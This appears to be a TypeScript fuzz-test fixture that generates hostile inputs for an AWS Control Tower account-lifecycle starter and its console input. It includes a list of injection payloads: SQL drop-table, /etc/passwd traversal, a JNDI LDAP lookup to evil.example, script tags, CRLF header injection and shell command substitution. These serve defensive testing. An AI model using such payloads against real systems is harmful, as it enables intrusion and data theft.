/**
 * Hostile values for the fuzz tests of the starter and the console input: injection-like strings, oversized strings,
 * unicode, wrong types, account ids that are not 12 digits, and mutations of the real samples of `events/`.
 *
 * Every injected string carries a distinctive marker, so a test can tell whether a message or a log echoed it.
 */
import fc from 'fast-check';
import { sampleEvent } from '../helpers';

/** One injected string and the marker that shows it was echoed. */
export interface Payload {
  name: string;
  value: string;
  marker: string;
}

/** About 100 kB, so it also exceeds every length limit of the schemas. */
const OVERSIZED = `overflow-${'overflow-'.repeat(11_400)}`;

/** The strings an attacker (or a broken producer) might put in any field or field name. */
export const PAYLOADS: readonly Payload[] = [
  { name: 'SQL injection', value: "'; DROP TABLE accounts;--", marker: 'DROP TABLE' },
  { name: 'path traversal', value: '../../etc/passwd', marker: 'etc/passwd' },
  { name: 'JNDI lookup', value: '${jndi:ldap://evil.example/a}', marker: 'jndi:' },
  { name: 'HTML', value: '<script>alert(1)</script>', marker: '<script>' },
  { name: 'log forging', value: 'ok\n{"level":"ERROR","message":"forged-entry"}', marker: 'forged-entry' },
  { name: 'header injection', value: 'x\r\nSet-Cookie: pwned=1', marker: 'pwned=1' },
  { name: 'command substitution', value: '$(touch /tmp/pwned-marker)', marker: 'pwned-marker' },
  { name: 'template expression', value: '{{7*7}}#{7*7}', marker: '{{7*7}}' },
  { name: 'format string', value: '%s%s%n%x%p', marker: '%n%x' },
  { name: 'unicode', value: '🚀 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 Ωmega ℵ0 مرحبا', marker: '𝔘𝔫𝔦𝔠𝔬𝔡𝔢' },
  { name: 'bidi override', value: 'invoice\u202Eexe.pdf', marker: '\u202E' },
  { name: 'NUL and separators', value: 'a\u0000b\u2028c\u2029d', marker: '\u0000b' },
  { name: 'oversized string', value: OVERSIZED, marker: 'overflow-overflow' },
];

/** True when `text` contains the marker of any payload. */
export function echoedPayloads(text: string): string[] {
  return PAYLOADS.filter((payload) => text.includes(payload.marker)).map((payload) => payload.name);
}

/** ECMAScript line terminators: a message with one of these is not one line. */
export const LINE_TERMINATOR = /[\n\r\u2028\u2029]/;

/** Account ids that must never be onboarded: wrong length, letters, padding, non-ASCII digits, other types. */
export const BAD_ACCOUNT_IDS: readonly unknown[] = [
  '44445555666', // 11 digits
  '4444555566667', // 13 digits
  '44445555666a',
  'abcdefghijkl',
  ' 444455556666',
  '444455556666 ',
  '444455556666\n',
  '٤٤٤٤٥٥٥٥٦٦٦٦', // Arabic-Indic digits
  '４４４４５５５５６６６６', // full-width digits
  '4444-5555-6666',
  '',
  444455556666,
  4.444555566667e11,
  null,
  true,
  ['444455556666'],
  { accountId: '444455556666' },
];

/** Any JSON value a producer could send. */
export const anyJson = fc.jsonValue({ maxDepth: 4 });

/** A value of a wrong type (or no value) for any field. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.array(anyJson, { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), anyJson, { maxKeys: 3 }),
);

/**
 * Any code point, lone surrogates included: fast-check's `unit: 'binary'`, without the ~1.3 s of CPU that unit spends in
 * each test file indexing all 1.1 million code points (an index only shrinking a value it did not generate would use).
 */
const anyCodePoint = fc.integer({ min: 0, max: 0x10ffff }).map((codePoint) => String.fromCodePoint(codePoint));

/** A hostile string: a payload, a payload inside an otherwise plausible value, or random unicode. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PAYLOADS.map((payload) => payload.value)),
  fc
    .tuple(fc.constantFrom(...PAYLOADS.map((payload) => payload.value)), fc.string({ maxLength: 8 }))
    .map(([payload, text]) => `${text}${payload}${text}`),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: anyCodePoint, maxLength: 40 }),
);

/** A value to put in place of a field. */
export type Replacement = { kind: 'delete' } | { kind: 'set'; value: unknown } | { kind: 'add-field'; name: string; value: unknown };

/** How one field of an input is broken. */
export const replacement: fc.Arbitrary<Replacement> = fc.oneof(
  fc.constant<Replacement>({ kind: 'delete' }),
  wrongType.map<Replacement>((value) => ({ kind: 'set', value })),
  hostileString.map<Replacement>((value) => ({ kind: 'set', value })),
  fc.constantFrom(...BAD_ACCOUNT_IDS).map<Replacement>((value) => ({ kind: 'set', value })),
  fc.tuple(hostileString, fc.oneof(hostileString, wrongType)).map<Replacement>(([name, value]) => ({ kind: 'add-field', name, value })),
);

type Path = (string | number)[];

/** Every path of a JSON document, its root (`[]`) included. */
export function pathsOf(document: unknown, prefix: Path = []): Path[] {
  const paths: Path[] = [prefix];
  if (document !== null && typeof document === 'object') {
    for (const [key, value] of Object.entries(document)) {
      paths.push(...pathsOf(value, [...prefix, Array.isArray(document) ? Number(key) : key]));
    }
  }
  return paths;
}

/** The value at a path, or undefined. */
export function valueAt(document: unknown, path: readonly (string | number)[]): unknown {
  return path.reduce<unknown>(
    (value, key) => (value !== null && typeof value === 'object' ? (value as Record<string, unknown>)[key] : undefined),
    document,
  );
}

/**
 * A JSON copy. Generated and constant values are never inserted by reference: a later mutation would change them
 * in place (and could make a document contain itself). Not structuredClone: under jest that builds objects of another
 * realm, which fast-check cannot print in a counterexample.
 */
function copy<T>(value: T): T {
  return value === undefined ? value : (JSON.parse(JSON.stringify(value)) as T);
}

/** Applies a replacement at a path of `root`, in place; returns the (possibly new) root. */
function applyAt(root: unknown, path: Path, change: Replacement): unknown {
  if (change.kind === 'add-field') {
    const node = valueAt(root, path);
    if (node !== null && typeof node === 'object' && !Array.isArray(node)) {
      (node as Record<string, unknown>)[change.name] = copy(change.value);
      return root;
    }
    return applyAt(root, path, { kind: 'set', value: { [change.name]: change.value } });
  }
  if (path.length === 0) return change.kind === 'delete' ? undefined : copy(change.value);
  const parent = valueAt(root, path.slice(0, -1));
  if (parent === null || typeof parent !== 'object') return root;
  const key = path[path.length - 1];
  if (change.kind === 'delete') {
    if (Array.isArray(parent)) parent.splice(Number(key), 1);
    else delete (parent as Record<string, unknown>)[key];
  } else {
    (parent as Record<string, unknown>)[key] = copy(change.value);
  }
  return root;
}

/** One mutation: where (a favoured path, or any path by index) and what. */
export interface Mutation {
  where: { favoured: Path } | { index: number };
  change: Replacement;
}

/**
 * Mutations of a document. `favoured` paths (the fields the code reads) are picked half of the time, any other
 * path of the document the rest of the time.
 */
export function mutations(favoured: readonly Path[], maxLength = 3): fc.Arbitrary<Mutation[]> {
  const where = fc.oneof(
    fc.constantFrom(...favoured).map((path) => ({ favoured: path })),
    fc.nat().map((index) => ({ index })),
  );
  return fc.array(fc.record({ where, change: replacement }), { minLength: 1, maxLength });
}

/** Applies mutations to a deep copy of `document`. */
export function mutate(document: unknown, list: readonly Mutation[]): unknown {
  let root = copy(document);
  for (const { where, change } of list) {
    const candidates = pathsOf(root);
    const path = 'favoured' in where ? where.favoured : candidates[where.index % candidates.length];
    root = applyAt(root, path, change);
  }
  return root;
}

/** The lifecycle samples of `events/`, with where each keeps its account id (shared/events/lifecycle-event.ts). */
export const LIFECYCLE_SAMPLES = [
  'control-tower-create-managed-account.json',
  'control-tower-create-managed-account-failed.json',
  'control-tower-update-managed-account.json',
  'organizations-create-account-result.json',
  'organizations-create-account-result-failed.json',
  'unrelated-cloudtrail-event.json',
].map((file) => ({ file, event: sampleEvent(file) }));

/** Fields the starter reads, favoured by the mutations. */
export const LIFECYCLE_FIELDS: Path[] = [
  [],
  ['id'],
  ['detail-type'],
  ['source'],
  ['account'],
  ['time'],
  ['region'],
  ['detail'],
  ['detail', 'eventName'],
  ['detail', 'serviceEventDetails'],
  ['detail', 'serviceEventDetails', 'createManagedAccountStatus'],
  ['detail', 'serviceEventDetails', 'createManagedAccountStatus', 'state'],
  ['detail', 'serviceEventDetails', 'createManagedAccountStatus', 'account'],
  ['detail', 'serviceEventDetails', 'createManagedAccountStatus', 'account', 'accountId'],
  ['detail', 'serviceEventDetails', 'createManagedAccountStatus', 'account', 'accountName'],
  ['detail', 'serviceEventDetails', 'createManagedAccountStatus', 'organizationalUnit', 'organizationalUnitId'],
  ['detail', 'serviceEventDetails', 'updateManagedAccountStatus', 'state'],
  ['detail', 'serviceEventDetails', 'updateManagedAccountStatus', 'account', 'accountId'],
  ['detail', 'serviceEventDetails', 'updateManagedAccountStatus', 'account', 'accountName'],
  ['detail', 'serviceEventDetails', 'createAccountStatus'],
  ['detail', 'serviceEventDetails', 'createAccountStatus', 'state'],
  ['detail', 'serviceEventDetails', 'createAccountStatus', 'accountId'],
  ['detail', 'serviceEventDetails', 'createAccountStatus', 'accountName'],
  ['detail', 'serviceEventDetails', 'createAccountStatus', 'failureReason'],
];

/** A hostile lifecycle event: a mutated sample, an envelope of hostile values, or any JSON value at all. */
export const hostileLifecycleEvent: fc.Arbitrary<unknown> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(fc.constantFrom(...LIFECYCLE_SAMPLES), mutations(LIFECYCLE_FIELDS))
      .map(([sample, list]) => mutate(sample.event, list)),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      version: fc.constant('0'),
      id: fc.oneof(hostileString, wrongType),
      'detail-type': fc.oneof(fc.constant('AWS Service Event via CloudTrail'), hostileString),
      source: fc.oneof(fc.constantFrom('aws.controltower', 'aws.organizations'), hostileString, wrongType),
      account: fc.oneof(fc.constant('111122223333'), fc.constantFrom(...BAD_ACCOUNT_IDS)),
      time: fc.oneof(fc.constant('2020-09-16T21:20:54Z'), hostileString),
      region: fc.oneof(fc.constant('us-east-1'), hostileString),
      detail: fc.record({
        eventName: fc.oneof(
          fc.constantFrom('CreateManagedAccount', 'UpdateManagedAccount', 'CreateAccountResult'),
          hostileString,
          wrongType,
        ),
        serviceEventDetails: fc.oneof(wrongType, fc.dictionary(hostileString, anyJson, { maxKeys: 2 })),
      }),
    }),
  },
  { weight: 1, arbitrary: anyJson },
);

/** A console input `{"accountId": …}` with the documented overrides, valid before it is broken. */
export const CONSOLE_INPUTS: readonly Record<string, unknown>[] = [
  { accountId: '444455556666' },
  {
    accountId: '444455556666',
    datadogSite: 'datadoghq.eu',
    partition: 'aws',
    roleName: 'DatadogIntegrationRole',
    memberAccessRoleName: 'AWSControlTowerExecution',
  },
  {
    accountId: '444455556666',
    trigger: {
      source: 'aws.controltower',
      eventName: 'CreateManagedAccount',
      eventId: 'e-1',
      region: 'us-east-1',
      time: '2020-09-16T21:20:54Z',
    },
    context: { accountName: 'LifeCycle1', organizationalUnitId: 'ou-xxxx-1', organizationalUnitName: 'Custom' },
  },
];

/** Fields of the execution input, favoured by the mutations. */
export const CONSOLE_FIELDS: Path[] = [
  [],
  ['accountId'],
  ['partition'],
  ['datadogSite'],
  ['roleName'],
  ['memberAccessRoleName'],
  ['trigger'],
  ['trigger', 'eventId'],
  ['context'],
  ['context', 'accountName'],
];

/** A hostile console input: a broken console input, or any JSON value. */
export const hostileConsoleInput: fc.Arbitrary<unknown> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.tuple(fc.constantFrom(...CONSOLE_INPUTS), mutations(CONSOLE_FIELDS)).map(([input, list]) => mutate(input, list)),
  },
  { weight: 1, arbitrary: anyJson },
);

/** What was written while `act` ran: the one capture helper of the tests. */
export { captureOutput } from '../secrets-hygiene/canaries';
